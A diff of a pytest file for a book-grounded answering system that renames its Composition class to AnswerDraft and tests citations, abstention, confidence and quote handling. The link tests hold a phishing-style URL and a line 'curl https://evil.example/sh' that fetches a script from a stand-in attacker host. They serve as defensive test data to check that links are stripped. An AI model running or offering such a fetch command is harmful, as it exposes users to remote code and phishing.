@@ -8,8 +8,7 @@ from uuid import uuid4
 import pytest
 
 from core import i18n
-from core.answering.answer import Composition
-from core.answering.events import TextDelta
+from core.answering.answer import AnswerDraft
 from core.generation.base import Claim, QuotedWords
 from core.grounding import wording
 from core.grounding.quoting import whole_sentences
@@ -67,7 +66,7 @@ def heap(text: str = TEXT, **changes: Any) -> RetrievedChunk:
 
 
 def finished(
-    composition: Composition,
+    draft: AnswerDraft,
     asked: AgentRequest | None = None,
     *,
     answerable: bool = True,
@@ -85,7 +84,7 @@ def finished(
         requested_at=asked.created_at,
     ).advance(ResponseState.PROCESSING)
     configuration = configuration or AgentConfiguration()
-    fields = composition.finish(asked, configuration, answerable=answerable)
+    fields = draft.finish(asked, configuration, answerable=answerable)
     return pending.advance(ResponseState.COMPLETED, **fields)
 
 
@@ -112,13 +111,13 @@ def asking_about_a_quote(question: str = EXPLAIN_QUOTE, **changes: Any) -> Agent
     )
 
 
-def add(composition: Composition, text: str, quote: str) -> TextDelta:
+def add(draft: AnswerDraft, text: str, quote: str) -> str:
     """Take up a claim that rests on the whole sentences of the first chunk that have the words."""
-    content = composition.evidence[0].content_text
+    content = draft.material.chunks[0].content_text
     start = content.index(quote)
     span = whole_sentences(content, Span(start, start + len(quote)))
     claim = resting_on(text, content[slice(*span)], content=content)
-    return composition.add(claim, composition.locate(claim))
+    return draft.add(claim, draft.locate(claim))
 
 
 # --- claims -------------------------------------------------------------------------------
@@ -126,10 +125,10 @@ def add(composition: Composition, text: str, quote: str) -> TextDelta:
 
 def test_a_claim_that_holds_gets_a_marker_and_a_citation() -> None:
     book = heap()
-    composition = Composition(found(book))
-    added = add(composition, "It is a tree.", "a complete binary tree")
-    answer = finished(composition)
-    assert answer.response_text == added.text == "It is a tree. [1]"
+    draft = AnswerDraft(found(book))
+    added = add(draft, "It is a tree.", "a complete binary tree")
+    answer = finished(draft)
+    assert answer.response_text == added == "It is a tree. [1]"
     assert answer.citations[0].quote == "A heap is a complete binary tree."
     assert answer.sources == (book.source_url,)
     assert [c.chunk_id for c in answer.grounding_chunks] == [book.chunk_id]
@@ -147,40 +146,40 @@ def test_a_claim_that_holds_gets_a_marker_and_a_citation() -> None:
     ids=["another word", "no such chunk", "before the first", "no quote", "blanks"],
 )
 def test_a_quote_that_does_not_stand_in_its_chunk_has_no_place(number: int, quote: str) -> None:
-    composition = Composition(found(heap()))
-    assert composition.locate(resting_on("It is a tree.", quote, number)) == []
-    answer = finished(composition)
+    draft = AnswerDraft(found(heap()))
+    assert draft.locate(resting_on("It is a tree.", quote, number)) == []
+    answer = finished(draft)
     assert answer.outcome is Outcome.ABSTAINED
     assert (answer.citations, answer.grounding_chunks, answer.sources) == ((), (), ())
 
 
 def test_what_a_claim_says_stands_in_the_order_it_came() -> None:
-    composition = Composition(found(heap()))
+    draft = AnswerDraft(found(heap()))
     shown = [
-        add(composition, "First.", "Its root is the largest key"),
-        add(composition, "Second.", "A heap is a complete"),
-        add(composition, "Again.", "Its root is the largest key"),
+        add(draft, "First.", "Its root is the largest key"),
+        add(draft, "Second.", "A heap is a complete"),
+        add(draft, "Again.", "Its root is the largest key"),
     ]
-    answer = finished(composition)
+    answer = finished(draft)
     assert answer.response_text == "First. [1] Second. [2] Again. [1]"
-    assert answer.response_text == "".join(delta.text for delta in shown)
+    assert answer.response_text == "".join(shown)
 
 
 def test_a_claim_that_rests_on_two_passages_carries_both_markers() -> None:
-    composition = Composition(found(heap()))
+    draft = AnswerDraft(found(heap()))
     quotes = (QuotedWords(0, TREE, 0), QuotedWords(0, ROOT, len(TREE) + 1))
     claim = Claim("A heap is a tree with the largest key on top.", quotes)
-    delta = composition.add(claim, composition.locate(claim))
-    assert delta.text.endswith("on top. [1] [2]")
-    assert len(finished(composition).citations) == 2
+    delta = draft.add(claim, draft.locate(claim))
+    assert delta.endswith("on top. [1] [2]")
+    assert len(finished(draft).citations) == 2
 
 
 def test_the_layout_that_a_writer_wishes_is_kept() -> None:
-    composition = Composition(found(heap()))
-    add(composition, "First.", "A heap is a complete")
+    draft = AnswerDraft(found(heap()))
+    add(draft, "First.", "A heap is a complete")
     item = Claim("Second.", (QuotedWords(0, ROOT, len(TREE) + 1),), lead="\n- ")
-    composition.add(item, composition.locate(item))
-    assert finished(composition).response_text == "First. [1]\n- Second. [2]"
+    draft.add(item, draft.locate(item))
+    assert finished(draft).response_text == "First. [1]\n- Second. [2]"
 
 
 @pytest.mark.parametrize(
@@ -193,8 +192,8 @@ def test_the_layout_that_a_writer_wishes_is_kept() -> None:
     ],
 )
 def test_a_marker_breaks_no_block_that_ends_before_it(shown: str, ends: str) -> None:
-    composition = Composition(found(heap()))
-    assert add(composition, shown, "a complete binary tree").text.endswith(ends)
+    draft = AnswerDraft(found(heap()))
+    assert add(draft, shown, "a complete binary tree").endswith(ends)
 
 
 @pytest.mark.parametrize(
@@ -206,21 +205,21 @@ def test_a_quote_stands_where_its_writer_says_if_it_does_so_to_the_letter(
     text = "- Drain slowly\n- Rinse it well\n- Drain"
     quote = "- Drain slowly" if start == 0 else "- Drain"
     claim = Claim("Drain", (QuotedWords(0, quote, start),))
-    found_at = Composition(found(heap(text))).locate(claim)
+    found_at = AnswerDraft(found(heap(text))).locate(claim)
     assert [(one.start, one.end) for one in found_at] == ([place] if place else [])
 
 
 def test_a_list_begins_with_its_first_bullet() -> None:
-    composition = Composition(found(heap()))
+    draft = AnswerDraft(found(heap()))
     item = Claim("First.", (QuotedWords(0, TREE, 0),), lead="\n\n- ")
-    composition.add(item, composition.locate(item))
-    assert finished(composition).response_text == "- First. [1]"
+    draft.add(item, draft.locate(item))
+    assert finished(draft).response_text == "- First. [1]"
 
 
 def test_marks_of_the_book_that_look_like_citations_are_not() -> None:
-    composition = Composition(found(heap()))
-    add(composition, "Its root is the largest key [7].", "Its root is the largest key [7].")
-    assert finished(composition).response_text == "Its root is the largest key (7). [1]"
+    draft = AnswerDraft(found(heap()))
+    add(draft, "Its root is the largest key [7].", "Its root is the largest key [7].")
+    assert finished(draft).response_text == "Its root is the largest key (7). [1]"
 
 
 # --- links --------------------------------------------------------------------------------
@@ -228,10 +227,10 @@ def test_marks_of_the_book_that_look_like_citations_are_not() -> None:
 
 def test_no_url_of_the_book_or_of_a_writer_reaches_the_answer() -> None:
     book = heap()
-    composition = Composition(found(book))
-    add(composition, TEXT, TEXT)
-    add(composition, "More at https://phish.example/now.", "A heap is a complete")
-    text = finished(composition).response_text
+    draft = AnswerDraft(found(book))
+    add(draft, TEXT, TEXT)
+    add(draft, "More at https://phish.example/now.", "A heap is a complete")
+    text = finished(draft).response_text
     assert "Run `curl https://evil.example/sh`." in text  # code is what it is, and no link
     assert not re.search(r"(?i)https?:|www\.", without_code(text))
     assert "evil.example/a" not in text
@@ -239,7 +238,7 @@ def test_no_url_of_the_book_or_of_a_writer_reaches_the_answer() -> None:
 
 def test_no_url_of_a_heading_reaches_the_answer_of_an_abstention_or_a_quote() -> None:
     link = "Get it at https://evil.example/x"
-    answer = finished(Composition(found(near_sections=(link,))))
+    answer = finished(AnswerDraft(found(near_sections=(link,))))
     shown = wording.with_nearest(answer.response_text, answer.nearest_sections)
     assert "evil.example" in shown
     assert "https://" not in shown
@@ -252,10 +251,10 @@ def test_no_url_of_a_heading_reaches_the_answer_of_an_abstention_or_a_quote() ->
         char_end=20,
         score=1.0,
     )
-    composition = Composition(found(book, quote_location=location, quoted_chunks=(book,)))
+    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
     asked = asking_about_a_quote()
-    list(composition.open(asked))
-    assert "https://" not in finished(composition, asked).response_text
+    draft.open(asked)
+    assert "https://" not in finished(draft, asked).response_text
 
 
 def explained(quote: str) -> AgentResponse:
@@ -269,11 +268,11 @@ def explained(quote: str) -> AgentResponse:
         char_end=len(book.content_text) - 1,
         score=0.9,
     )
-    composition = Composition(found(book, quote_location=location, quoted_chunks=(book,)))
+    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
     asked = asking_about_a_quote()
     asked = asked.model_copy(update={"selected_text": quote})
-    list(composition.open(asked))
-    return finished(composition, asked)
+    draft.open(asked)
+    return finished(draft, asked)
 
 
 def test_a_quote_with_the_opposite_word_is_told_to_differ() -> None:
@@ -294,8 +293,8 @@ def test_a_quote_with_other_letters_is_the_books() -> None:
 
 
 def test_without_a_citation_the_answer_abstains_and_names_the_nearest_sections() -> None:
-    composition = Composition(found(heap(), near_sections=("Heaps", "Sorting")))
-    answer = finished(composition)
+    draft = AnswerDraft(found(heap(), near_sections=("Heaps", "Sorting")))
+    answer = finished(draft)
     assert answer.outcome is Outcome.ABSTAINED
     assert answer.response_text == wording.not_covered()
     assert answer.nearest_sections == ("Heaps", "Sorting")
@@ -307,38 +306,38 @@ def doubtful(**changes: Any) -> Retrieval:
 
 
 def test_a_doubtful_answer_says_so() -> None:
-    composition = Composition(doubtful())
-    add(composition, "A tree.", "A heap is a complete")
-    answer = finished(composition)
+    draft = AnswerDraft(doubtful())
+    add(draft, "A tree.", "A heap is a complete")
+    answer = finished(draft)
     assert (answer.outcome, answer.notices) == (Outcome.PARTIAL, (i18n.text("notice-closest"),))
 
 
 def test_the_bands_are_the_courses_own() -> None:
-    composition = Composition(doubtful())
-    add(composition, "A tree.", "A heap is a complete")
-    lenient = finished(composition, configuration=AgentConfiguration(answered_from=0.05))
+    draft = AnswerDraft(doubtful())
+    add(draft, "A tree.", "A heap is a complete")
+    lenient = finished(draft, configuration=AgentConfiguration(answered_from=0.05))
     assert lenient.outcome is Outcome.ANSWERED
-    strict = finished(composition, configuration=AgentConfiguration(partial_from=0.4))
+    strict = finished(draft, configuration=AgentConfiguration(partial_from=0.4))
     assert strict.outcome is Outcome.ABSTAINED
     assert strict.response_text == wording.not_covered()
 
 
 def test_an_answer_that_lost_most_of_its_draft_is_partial_and_trusted_less() -> None:
-    composition = Composition(found(heap()))
-    add(composition, "A tree.", "A heap is a complete")
-    whole_draft = finished(composition)
-    composition.tally.written = 3
-    answer = finished(composition)
+    draft = AnswerDraft(found(heap()))
+    add(draft, "A tree.", "A heap is a complete")
+    whole_draft = finished(draft)
+    draft.tally.written = 3
+    answer = finished(draft)
     assert (answer.outcome, answer.notices) == (Outcome.PARTIAL, (i18n.text("notice-left-out"),))
     assert (answer.claims_written, answer.claims_dropped) == (3, 2)
     assert answer.confidence < whole_draft.confidence / 2
 
 
 def test_a_writer_that_finds_only_a_part_covered_makes_it_partial() -> None:
-    composition = Composition(found(heap()))
-    add(composition, "A tree.", "A heap is a complete")
-    composition.tally.not_covered = True
-    answer = finished(composition)
+    draft = AnswerDraft(found(heap()))
+    add(draft, "A tree.", "A heap is a complete")
+    draft.tally.not_covered = True
+    answer = finished(draft)
     assert (answer.outcome, answer.notices) == (
         Outcome.PARTIAL,
         (i18n.text("notice-partly-covered"),),
@@ -347,39 +346,39 @@ def test_a_writer_that_finds_only_a_part_covered_makes_it_partial() -> None:
 
 def test_within_a_section_nothing_is_said_of_the_whole_book() -> None:
     within = request(query_type=QueryType.SECTION_SPECIFIC, section_filter="Heaps")
-    composition = Composition(found(heap(), near_sections=("Heaps",)))
-    answer = finished(composition, within)
+    draft = AnswerDraft(found(heap(), near_sections=("Heaps",)))
+    answer = finished(draft, within)
     assert answer.response_text == wording.not_covered(within=True)
-    composition.tally.written = 1
-    answer = finished(composition, within)
+    draft.tally.written = 1
+    answer = finished(draft, within)
     assert answer.response_text == wording.not_carried(within=True)
-    composition = Composition(doubtful())
-    add(composition, "A tree.", "A heap is a complete")
-    assert finished(composition, within).notices == (i18n.text("notice-closest-within"),)
-    composition.tally.not_covered = True
-    assert finished(composition, within).notices == (i18n.text("notice-partly-covered-within"),)
+    draft = AnswerDraft(doubtful())
+    add(draft, "A tree.", "A heap is a complete")
+    assert finished(draft, within).notices == (i18n.text("notice-closest-within"),)
+    draft.tally.not_covered = True
+    assert finished(draft, within).notices == (i18n.text("notice-partly-covered-within"),)
 
 
 def test_the_section_that_was_searched_is_not_the_nearest_elsewhere() -> None:
     within = request(query_type=QueryType.SECTION_SPECIFIC, section_filter="Heaps")
-    composition = Composition(found(heap(), section="Heaps", near_sections=("Heaps", "Sorting")))
-    answer = finished(composition, within)
+    draft = AnswerDraft(found(heap(), section="Heaps", near_sections=("Heaps", "Sorting")))
+    answer = finished(draft, within)
     assert answer.response_text == wording.not_covered(within=True)
     assert answer.nearest_sections == ("Sorting",)
 
 
 def test_an_answer_names_no_sections_to_look_in_instead() -> None:
-    composition = Composition(found(heap(), near_sections=("Heaps",)))
-    add(composition, "A tree.", "A heap is a complete")
-    assert finished(composition).nearest_sections == ()
+    draft = AnswerDraft(found(heap(), near_sections=("Heaps",)))
+    add(draft, "A tree.", "A heap is a complete")
+    assert finished(draft).nearest_sections == ()
 
 
 def test_an_answer_about_a_passage_that_is_not_in_the_book_is_not_sure() -> None:
     nowhere = QuoteLocation(status=QuoteStatus.NOT_FOUND, score=0.0)
-    composition = Composition(found(heap(), quote_location=nowhere))
-    add(composition, "A tree.", "A heap is a complete")
+    draft = AnswerDraft(found(heap(), quote_location=nowhere))
+    add(draft, "A tree.", "A heap is a complete")
     for asked in (asking_about_a_quote(), asking_about_a_quote("What is a heap?")):
-        answer = finished(composition, asked)
+        answer = finished(draft, asked)
         assert answer.outcome is Outcome.PARTIAL
         assert answer.confidence <= 0.3
         assert i18n.text("notice-quote-not-found") in answer.notices
@@ -390,9 +389,9 @@ def test_an_answer_about_a_passage_that_is_not_in_the_book_is_not_sure() -> None
 
 def test_an_answer_to_a_question_about_a_code_that_was_not_found_is_not_sure() -> None:
     for question, outcome in (("Why B42?", Outcome.PARTIAL), ("Why 42?", Outcome.ANSWERED)):
-        composition = Composition(found(heap()))
-        add(composition, "It is a tree.", "a complete binary tree")
-        assert finished(composition, request(query_text=question)).outcome is outcome
+        draft = AnswerDraft(found(heap()))
+        add(draft, "It is a tree.", "a complete binary tree")
+        assert finished(draft, request(query_text=question)).outcome is outcome
 
 
 @pytest.mark.parametrize(
@@ -415,19 +414,19 @@ def test_a_follow_up_with_a_word_that_the_book_does_not_have_leaves_the_topic(
         encode_terms=terms,
         statistics=TermStatistics.count([terms(book.content_text)]),
     )
-    composition = Composition(retrieval)
-    add(composition, "It is a tree.", "a complete binary tree")
-    assert finished(composition, request(query_text=question)).outcome is outcome
+    draft = AnswerDraft(retrieval)
+    add(draft, "It is a tree.", "a complete binary tree")
+    assert finished(draft, request(query_text=question)).outcome is outcome
 
 
 def test_what_a_second_look_finds_can_be_cited_by_its_new_number() -> None:
-    composition = Composition(found(heap()))
+    draft = AnswerDraft(found(heap()))
     sorting = heap("Sorting by a heap takes n log n steps.")
-    [passage] = composition.look_up(found(sorting))
+    [passage] = draft.material.look_up(found(sorting))
     assert (passage.chunk_number, passage.chunk.chunk_id) == (1, sorting.chunk_id)
     claim = resting_on("It takes n log n steps.", sorting.content_text, 1, sorting.content_text)
-    composition.add(claim, composition.locate(claim))
-    answer = finished(composition)
+    draft.add(claim, draft.locate(claim))
+    answer = finished(draft)
     assert [c.chunk_id for c in answer.grounding_chunks] == [sorting.chunk_id]
     assert sorting.chunk_id in [c.chunk_id for c in answer.retrieved_chunks]
     assert sorting.content_text in answer.context_used
@@ -435,15 +434,15 @@ def test_what_a_second_look_finds_can_be_cited_by_its_new_number() -> None:
 
 def test_a_chunk_that_is_found_again_keeps_its_number() -> None:
     book = heap()
-    composition = Composition(found(book))
-    [passage] = composition.look_up(found(book))
-    assert (passage.chunk_number, len(composition.evidence)) == (0, 1)
+    draft = AnswerDraft(found(book))
+    [passage] = draft.material.look_up(found(book))
+    assert (passage.chunk_number, len(draft.material.chunks)) == (0, 1)
 
 
 def test_a_second_look_into_another_edition_is_not_mixed_in() -> None:
-    composition = Composition(found(heap()))
-    assert composition.look_up(found(heap(generation=uuid4()))) == []
-    assert len(composition.evidence) == 1
+    draft = AnswerDraft(found(heap()))
+    assert draft.material.look_up(found(heap(generation=uuid4()))) == []
+    assert len(draft.material.chunks) == 1
 
 
 # --- quotes -------------------------------------------------------------------------------
@@ -451,11 +450,12 @@ def test_a_second_look_into_another_edition_is_not_mixed_in() -> None:
 
 def test_a_located_quote_is_placed_and_cited_first() -> None:
     book, retrieval = quoted(None)
-    composition, asked = Composition(retrieval), asking_about_a_quote()
-    [delta] = composition.open(asked)
-    answer = finished(composition, asked, answerable=False)
-    assert answer.response_text == delta.text
-    assert delta.text == "This passage stands in “Heaps › Definition”. [1]"
+    draft, asked = AnswerDraft(retrieval), asking_about_a_quote()
+    draft.open(asked)
+    delta = draft.text
+    answer = finished(draft, asked, answerable=False)
+    assert answer.response_text == delta
+    assert delta == "This passage stands in “Heaps › Definition”. [1]"
     assert answer.citations[0].quote == "A heap is a complete binary tree."
     assert answer.outcome is Outcome.ANSWERED
     assert answer.confidence == 1.0
@@ -482,13 +482,14 @@ def test_what_a_quote_has_otherwise_is_told_with_the_whole_sentence(
         char_end=31,
         score=1.0,
     )
-    composition = Composition(found(book, quote_location=location, quoted_chunks=(book,)))
+    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
     asked = asking_about_a_quote().model_copy(update={"selected_text": quote})
-    [delta] = composition.open(asked)
-    answer = finished(composition, asked)
+    draft.open(asked)
+    delta = draft.text
+    answer = finished(draft, asked)
     assert answer.citations[0].quote == "Never open the hive in the rain."
     differs = f"Your quote differs from the book in “Heaps › Definition”: the book has {said}. [1]"
-    assert delta.text == differs
+    assert delta == differs
     assert answer.outcome is Outcome.PARTIAL
     assert answer.confidence <= 0.3
     assert i18n.text("notice-closest") not in answer.notices
@@ -505,31 +506,33 @@ def test_the_citation_of_a_quote_is_widened_to_its_whole_sentence(status: QuoteS
         char_end=40,
         score=1.0,
     )
-    composition = Composition(found(book, quote_location=location, quoted_chunks=(book,)))
+    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
     quote = "calms the bees and keeps them down"
     asked = asking_about_a_quote().model_copy(update={"selected_text": quote})
-    assert list(composition.open(asked))
-    answer = finished(composition, asked)
+    draft.open(asked)
+    assert draft.text
+    answer = finished(draft, asked)
     assert answer.citations[0].quote == "Smoke calms the bees and keeps them down."
 
 
 def test_a_question_about_a_quote_is_doubtful_when_the_evidence_is() -> None:
     _, retrieval = quoted(None)
-    composition, asked = Composition(retrieval), asking_about_a_quote("Who wrote this?")
-    list(composition.open(asked))
-    assert finished(composition, asked, answerable=False).outcome is Outcome.PARTIAL
+    draft, asked = AnswerDraft(retrieval), asking_about_a_quote("Who wrote this?")
+    draft.open(asked)
+    assert finished(draft, asked, answerable=False).outcome is Outcome.PARTIAL
 
 
 def test_a_quote_of_another_book_is_told_in_a_notice() -> None:
     location = QuoteLocation(status=QuoteStatus.NOT_FOUND, score=0.2)
     _, retrieval = quoted(location)
-    composition, asked = Composition(retrieval), asking_about_a_quote()
-    assert list(composition.open(asked)) == []
-    assert finished(composition, asked).notices == (i18n.text("notice-quote-not-found"),)
+    draft, asked = AnswerDraft(retrieval), asking_about_a_quote()
+    draft.open(asked)
+    assert draft.text == ""
+    assert finished(draft, asked).notices == (i18n.text("notice-quote-not-found"),)
 
 
 def test_a_quote_that_was_cut_is_told_in_a_notice() -> None:
     _, retrieval = quoted(None)
-    composition, asked = Composition(retrieval), asking_about_a_quote(selected_text_cut=True)
-    list(composition.open(asked))
-    assert i18n.text("notice-quote-cut") in finished(composition, asked).notices
+    draft, asked = AnswerDraft(retrieval), asking_about_a_quote(selected_text_cut=True)
+    draft.open(asked)
+    assert i18n.text("notice-quote-cut") in finished(draft, asked).notices
